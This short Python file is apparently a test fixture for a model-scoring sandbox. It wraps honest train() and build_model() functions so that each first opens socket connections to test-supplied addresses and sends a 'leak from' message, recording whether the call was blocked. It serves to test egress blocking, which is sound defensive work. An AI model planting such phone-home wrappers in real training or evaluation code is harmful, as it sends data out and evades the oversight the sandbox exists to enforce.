# ruff: noqa: F821
# Appended to good_bigram.py by tests/runner/candidates.py, which defines HOSTILE_ARGS,
# honest_build_model and honest_train.
"""Hostile: phones home from train() and from build_model() while scoring."""

import socket


def phone_home(where):
    for host, port in HOSTILE_ARGS["addresses"]:
        try:
            with socket.create_connection((host, port), timeout=2) as conn:
                conn.sendall(b"leak from " + where.encode())
            print("CONNECTED", where, host)
        except OSError as exc:
            print("BLOCKED", where, host, type(exc).__name__)


def build_model(ctx):
    phone_home("build_model")
    return honest_build_model(ctx)


def train(model, ctx):
    phone_home("train")
    honest_train(model, ctx)
